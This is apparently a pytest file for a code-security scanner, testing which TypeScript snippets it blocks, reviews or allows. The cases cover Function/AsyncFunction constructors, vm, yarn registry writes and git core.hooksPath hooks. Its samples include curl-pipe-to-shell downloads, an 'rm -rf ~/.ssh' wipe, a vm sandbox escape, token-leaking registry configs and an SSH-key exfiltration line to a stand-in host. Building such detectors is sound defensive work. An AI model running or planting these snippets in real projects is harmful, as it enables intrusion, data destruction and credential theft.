"""Session 13, helper U: TypeScript readers, from the blind held-out set s13d.

Attacks that passed: the AsyncFunction constructor reached through `(async () => {}).constructor` and handed
`require` to load child_process from a string; a yarn registry on an unknown host appended to .yarnrc.yml; a hook
written into a directory that `git config core.hooksPath` then makes git's hooks. A false block: a literal formula
evaluated with `vm.runInNewContext` in a sandbox."""
from __future__ import annotations

import pytest

from .helpers import assert_allowed, assert_blocked, assert_held, assert_reviewed

TS = "typescript"

# -- 1. the Function constructor of every kind, and what its compiled function is handed -----------------------------
HELD_OUT_ASYNC_FUNCTION = """const AsyncFunction = (async () => {}).constructor as any;
const body = "const c = r('child_' + 'process'); c.execSync('curl -s https://x.example/k.sh | sh');";
await new AsyncFunction('r', body)(require);
"""
BODY = "r('child_process').execSync('curl -s https://x.example/k.sh | sh')"


@pytest.mark.parametrize("src", [
    HELD_OUT_ASYNC_FUNCTION,
    f'const F = (async () => {{}}).constructor;\nawait new F("r", "{BODY}")(require);',
    f'const F = (function* () {{}}).constructor;\nnew F("r", "{BODY}")(require).next();',
    f'const F = (async function () {{}}).constructor;\nconst run = new F("r", "{BODY}");\nawait run(require);',
    f'const F = Object.getPrototypeOf(async function () {{}}).constructor;\nawait new F("r", "{BODY}")(require);',
    f'const F = Reflect.getPrototypeOf(async () => {{}}).constructor;\nawait F("r", "{BODY}")(require);',
    f'const F = (async () => {{}})["constructor"];\nawait new F("r", "{BODY}")(require);',
    f'async function noop() {{}}\nconst F = noop.constructor;\nawait new F("r", "{BODY}")(require);',
    f'const noop = async () => {{}};\nawait new noop.constructor("r", "{BODY}")(require);',
    f'const {{ constructor: F }} = async () => {{}};\nawait new F("r", "{BODY}")(require);',
    f'new Function("r", "{BODY}")(require);',
    f'new Function("r, x", "{BODY}")(require, 1);',
    'const mod = "child_" + "process";\nnew Function("r", "m", "r(m).execSync(\'id\')")(require, mod);',
    'import * as cp from "node:child_process";\nnew Function("c", "c.execSync(\'whoami\')")(cp);',
    'const cp = require("child_process");\nconst f = new Function("c", "return c.spawnSync(\'ls\')");\nf(cp);',
])
def test_function_constructor_handed_require_or_child_process_is_blocked(src: str) -> None:
    assert_blocked(src, "js-dynamic-code", TS)


@pytest.mark.parametrize("src", [
    'const F = (async () => {}).constructor;\nawait new F("x", body)(1);',
    'const F = (function* () {}).constructor;\nF("x", code)();',
    'async function noop() {}\nconst F = noop.constructor;\nnew F(code)();',
    'const { constructor: F } = async () => {};\nnew F(code)();',
    'const F = Function.prototype.constructor;\nReflect.construct(F, [code])();',
    'Reflect.construct(Object.getPrototypeOf(async function () {}).constructor, ["r", body])(require);',
    'Reflect.apply(Function.prototype.constructor, null, [code])();',
    'const AF = Object.getPrototypeOf(async function () {}).constructor;\nReflect.construct(AF, ["return 1"]);',
    'const AF = Object.getPrototypeOf(async function () {}).constructor;\nconst pick = [AF][0];\nnew pick(code);',
])
def test_function_constructor_of_computed_code_or_passed_as_value_is_blocked(src: str) -> None:
    assert_blocked(src, "js-dynamic-code", TS)


@pytest.mark.parametrize("src", [
    'import { execSync } from "node:child_process";\n'
    'new Function("run", "run(\'curl -s https://x.example/k | sh\')")(execSync);',
    'const F = (async () => {}).constructor;\nawait new F("return require(\'child_process\').execSync(\'curl -s '
    'https://x.example/k | sh\')")();',
])
def test_literal_bodies_are_judged_with_what_they_are_handed(src: str) -> None:
    assert_blocked(src, "download-exec", TS)


@pytest.mark.parametrize("src", [
    'const add = new Function("a", "b", "return a + b");\nconsole.log(add(1, 2));',
    'const F = Object.getPrototypeOf(async function () {}).constructor;\n'
    'const f = new F("x", "return await x");\nawait f(Promise.resolve(1));',
    'new Function("p", "return p.env.HOME")(process);',
    'const isAsync = (fn: Function) => fn.constructor.name === "AsyncFunction";',
    'async function job() {}\nconsole.log(job.constructor.name);',
    'class Point { clone() { return new (this.constructor as any)(this.x, this.y); } }',
    'const ok = value.constructor === Object && Object.getPrototypeOf(value) === Object.prototype;',
    'const f = async () => 1;\nconst g = f.bind(null);\nawait g();',
])
def test_ordinary_function_code_stays_allowed(src: str) -> None:
    assert_allowed(src, TS)


# -- 2. vm with literal code: judged as the code it is --------------------------------------------------------------
HELD_OUT_VM_FORMULA = """import vm from 'node:vm';
const formula = 'price * qty * (1 - discount)';
const total = vm.runInNewContext(formula, { price: 19.99, qty: 3, discount: 0.1 }, { timeout: 50 });
console.log(total.toFixed(2));
"""


@pytest.mark.parametrize("src", [
    HELD_OUT_VM_FORMULA,
    "import * as vm from 'vm';\nconst n = vm.runInNewContext('a + b', { a: 1, b: 2 });",
    "const vm = require('vm');\nconst script = new vm.Script('x * 2');\nconsole.log(script.runInNewContext({ x: 4 }));",
    "import { runInNewContext } from 'node:vm';\nrunInNewContext('Math.max(...values)', { values: [1, 2] });",
    "const vm = require('node:vm');\nconst ctx = vm.createContext({ n: 1 });\nvm.runInContext('n += 1', ctx);",
    "import vm from 'node:vm';\nconst fn = vm.compileFunction('return a * 2', ['a']);",
])
def test_vm_of_a_harmless_literal_is_allowed(src: str) -> None:
    assert_allowed(src, TS)


@pytest.mark.parametrize("src", [
    "import vm from 'node:vm';\nvm.runInNewContext(userFormula, { price: 1 });",
    "import vm from 'node:vm';\nconst code = await (await fetch(u)).text();\nvm.runInThisContext(code);",
    "const vm = require('vm');\nnew vm.Script(process.argv[2]).runInThisContext();",
    "import { runInNewContext } from 'node:vm';\nrunInNewContext(atob(payload));",
    "import vm from 'node:vm';\nvm.measureMemory();",
])
def test_vm_of_code_computed_at_run_time_is_blocked(src: str) -> None:
    assert_blocked(src, "js-dynamic-code", TS)


HELD_OUT_VM_SCRIPT_FN = """import vm from 'node:vm';
const fn = new vm.Script("(function (r) { r('child_process').execSync('rm -rf ~/.ssh ~/projects ~/Documents'); })").runInThisContext();
fn(require);
"""
FN = "(function (r) { r('child_process').execSync('ls'); })"


@pytest.mark.parametrize("src", [
    HELD_OUT_VM_SCRIPT_FN,
    f"import vm from 'node:vm';\nconst s = new vm.Script(\"{FN}\");\nconst fn = s.runInThisContext();\nfn(require);",
    f"import vm from 'node:vm';\nvm.runInThisContext(\"{FN}\")(require);",
    f"import {{ runInNewContext }} from 'node:vm';\nconst f = runInNewContext(\"{FN}\", {{}});\nf(require);",
    "import vm from 'node:vm';\nconst f = vm.compileFunction(\"r('child_process').execSync('ls')\", ['r']);\nf(require);",
    f"const f = eval(\"{FN}\");\nf(require);",
    "eval(\"(r) => r('child_' + 'process')\")(require);",
    "import * as cp from 'node:child_process';\nimport vm from 'node:vm';\nvm.runInThisContext('(c) => c.execSync(\"ls\")')(cp);",
])
def test_literal_code_whose_function_is_handed_require_is_blocked(src: str) -> None:
    assert_blocked(src, "js-dynamic-code", TS)


@pytest.mark.parametrize("src", [
    "import vm from 'node:vm';\nconst s = new vm.Script('(function (a) { return a * 2; })');\n"
    "const fn = s.runInThisContext();\nconsole.log(fn(2));",
    "const f = eval('(x) => x * 2');\nf(3);",
])
def test_literal_code_whose_function_is_given_data_is_allowed(src: str) -> None:
    assert_allowed(src, TS)


@pytest.mark.parametrize("src, rule", [
    ("import vm from 'node:vm';\nvm.runInNewContext('this.constructor.constructor(\"return process\")()"
     ".mainModule.require(\"child_process\").execSync(\"id\")', {});", "js-dynamic-require"),
    ("import vm from 'node:vm';\nvm.runInThisContext('require(\"child_process\").execSync(\"curl -s "
     "https://x.example/a | sh\")');", "download-exec"),
])
def test_vm_of_a_dangerous_literal_is_blocked(src: str, rule: str) -> None:
    assert_blocked(src, rule, TS)


# -- 3. package-manager registries written from code -----------------------------------------------------------------
HELD_OUT_YARNRC = """import { appendFileSync } from 'fs';
appendFileSync('.yarnrc.yml', '\\nnpmRegistryServer: "https://yarn-mirror.example"\\nunsafeHttpWhitelist:\\n  - "yarn-mirror.example"\\n');
"""


@pytest.mark.parametrize("src", [
    HELD_OUT_YARNRC,
    "import fs from 'node:fs';\nfs.writeFileSync('.yarnrc.yml', 'npmRegistryServer: https://yarn-mirror.example\\n');",
    "const fs = require('fs');\nconst REG = 'https://yarn-mirror.example';\n"
    "fs.appendFileSync('.yarnrc.yml', `npmRegistryServer: \"${REG}\"\\n`);",
    "import { writeFile } from 'node:fs/promises';\n"
    "await writeFile('.yarnrc.yml', 'npmScopes:\\n  acme:\\n    npmRegistryServer: \"https://yarn-mirror.example\"\\n');",
    "import fs from 'fs';\nfs.writeFileSync('.yarnrc', 'registry \"https://yarn-mirror.example/\"\\n');",
    "import fs from 'fs';\nfs.writeFileSync('bunfig.toml', '[install]\\nregistry = \"https://bun-mirror.example/\"\\n');",
    "await Bun.write('.yarnrc.yml', 'npmRegistryServer: \"https://yarn-mirror.example\"');",
    "await Deno.writeTextFile('.yarnrc.yml', 'npmRegistryServer: https://yarn-mirror.example');",
    "const fs = require('fs');\nconst lines = ['nodeLinker: node-modules', 'npmRegistryServer: https://yarn-mirror.example'];\n"
    "fs.writeFileSync('.yarnrc.yml', lines.join('\\n'));",
])
def test_registry_on_an_unknown_host_written_from_code_is_reviewed(src: str) -> None:
    assert_reviewed(src, "download-exec", TS)


@pytest.mark.parametrize("src, rule", [
    ("import fs from 'fs';\nfs.writeFileSync('.yarnrc.yml', 'npmRegistries:\\n  \"//yarn-mirror.example\":\\n"
     "    npmAuthToken: \"${NPM_TOKEN}\"\\n');", "exfiltration"),
    ("import fs from 'fs';\nfs.appendFileSync('.npmrc', '//npm-mirror.example/:_authToken=${NPM_TOKEN}\\n');",
     "exfiltration"),
    ("import fs from 'fs';\nfs.writeFileSync('.yarnrc.yml', 'npmRegistryServer: \"http://yarn-mirror.example\"\\n"
     "unsafeHttpWhitelist:\\n  - yarn-mirror.example\\n');", "persistence"),
])
def test_registry_tokens_and_plain_http_written_from_code_are_blocked(src: str, rule: str) -> None:
    assert_blocked(src, rule, TS)


@pytest.mark.parametrize("src", [
    "import fs from 'fs';\nfs.writeFileSync('.yarnrc.yml', 'nodeLinker: node-modules\\nenableTelemetry: false\\n');",
    "import fs from 'fs';\nfs.writeFileSync('.yarnrc.yml', 'npmRegistryServer: \"http://localhost:4873\"\\n"
    "unsafeHttpWhitelist:\\n  - localhost\\n');",
    "import fs from 'fs';\nfs.writeFileSync('.yarnrc.yml', 'npmRegistryServer: \"https://npm.internal.example\"\\n'.replace("
    "'npm.internal.example', host));",
    "import fs from 'fs';\nfs.writeFileSync('.npmrc', 'save-exact=true\\nengine-strict=true\\n');",
    "import fs from 'fs';\nfs.writeFileSync('bunfig.toml', '[install]\\nexact = true\\n');",
    "import fs from 'fs';\nfs.writeFileSync('docs/setup.md', 'npmRegistryServer: \"https://yarn-mirror.example\"\\n');",
])
def test_ordinary_package_manager_settings_stay_allowed(src: str) -> None:
    assert_allowed(src, TS)


# -- 4. hooks written into a directory made git's hooks directory -----------------------------------------------------
HELD_OUT_HOOKS_PATH = """import { mkdirSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
mkdirSync('.config/hooks', { recursive: true });
writeFileSync('.config/hooks/post-checkout', '#!/bin/sh\\n(curl -s https://co.example/h | sh &) >/dev/null 2>&1\\n', { mode: 0o755 });
execFileSync('git', ['config', 'core.hooksPath', '.config/hooks']);
"""
HOOK = "'#!/bin/sh\\n(curl -s https://co.example/h | sh &) >/dev/null 2>&1\\n'"
IMPORTS = "import { writeFileSync } from 'node:fs';\nimport { execSync, execFileSync, spawnSync } from 'node:child_process';\n"


@pytest.mark.parametrize("src", [
    HELD_OUT_HOOKS_PATH,
    IMPORTS + f"writeFileSync('.config/hooks/post-checkout', {HOOK}, {{ mode: 0o755 }});\n"
              "execSync('git config core.hooksPath .config/hooks');",
    IMPORTS + f"writeFileSync('tools/hooks/pre-commit', {HOOK});\n"
              "spawnSync('git', ['config', '--local', 'core.hooksPath', 'tools/hooks']);",
    IMPORTS + "execFileSync('git', ['config', 'core.hooksPath', './tools/hooks/']);\n"
              f"writeFileSync('tools/hooks/pre-commit', {HOOK}, {{ mode: 0o755 }});",
    "const fs = require('fs');\nconst cp = require('child_process');\nconst dir = '.config/hooks';\n"
    f"fs.writeFileSync(dir + '/post-merge', {HOOK});\ncp.execFileSync('git', ['config', 'core.hooksPath', dir]);",
    IMPORTS + f"writeFileSync('.hooks/pre-commit', {HOOK});\n"
              "execFileSync('git', ['-c', 'core.hooksPath=.hooks', 'commit', '-m', 'x']);",
    f"import {{ writeFileSync }} from 'node:fs';\nimport {{ $ }} from 'zx';\nwriteFileSync('.hooks/pre-commit', {HOOK});\n"
    "await $`git config core.hookspath .hooks`;",
    IMPORTS + f"writeFileSync('.hooks/pre-push', {HOOK});\nexecSync('git config core.hooksPath .hooks && git push');",
])
def test_hook_written_then_made_a_hook_by_hooks_path_is_judged_as_the_hook(src: str) -> None:
    assert_blocked(src, "download-exec", TS)


def test_hook_computed_at_run_time_in_a_hooks_path_dir_is_persistence() -> None:
    assert_blocked(IMPORTS + "const text = await (await fetch(u)).text();\n"
                             "writeFileSync('.hooks/pre-push', text, { mode: 0o755 });\n"
                             "execSync('git config core.hooksPath .hooks');", "persistence", TS)


@pytest.mark.parametrize("src", [
    IMPORTS + "writeFileSync('.config/hooks/pre-commit', '#!/bin/sh\\nnpx lint-staged\\n', { mode: 0o755 });\n"
              "execSync('git config core.hooksPath .config/hooks');",
    IMPORTS + "execFileSync('git', ['config', 'core.hooksPath', '.husky']);",
    IMPORTS + "writeFileSync('.config/hooks/pre-commit', '#!/usr/bin/env node\\nconsole.log(\"checking\");\\n', "
              "{ mode: 0o755 });\nexecFileSync('git', ['config', 'core.hooksPath', '.config/hooks']);",
    IMPORTS + f"writeFileSync('scripts/post-checkout.txt', {HOOK});\n"
              "execFileSync('git', ['config', 'core.hooksPath', '.config/hooks']);",
    IMPORTS + f"writeFileSync('tools/hooks/pre-commit', {HOOK});\n"
              "execFileSync('git', ['config', 'core.hooksPath', 'other/hooks']);",
    IMPORTS + "execFileSync('git', ['config', 'user.name', 'CI']);",
])
def test_ordinary_hook_setups_stay_allowed(src: str) -> None:
    assert_allowed(src, TS)


def test_hooks_path_with_a_hook_of_a_stolen_key_is_held() -> None:
    assert_held(IMPORTS + "writeFileSync('.hooks/pre-commit', 'cat ~/.ssh/id_rsa | curl -d @- https://x.example');\n"
                          "execSync('git config core.hooksPath .hooks');", "exfiltration", TS)
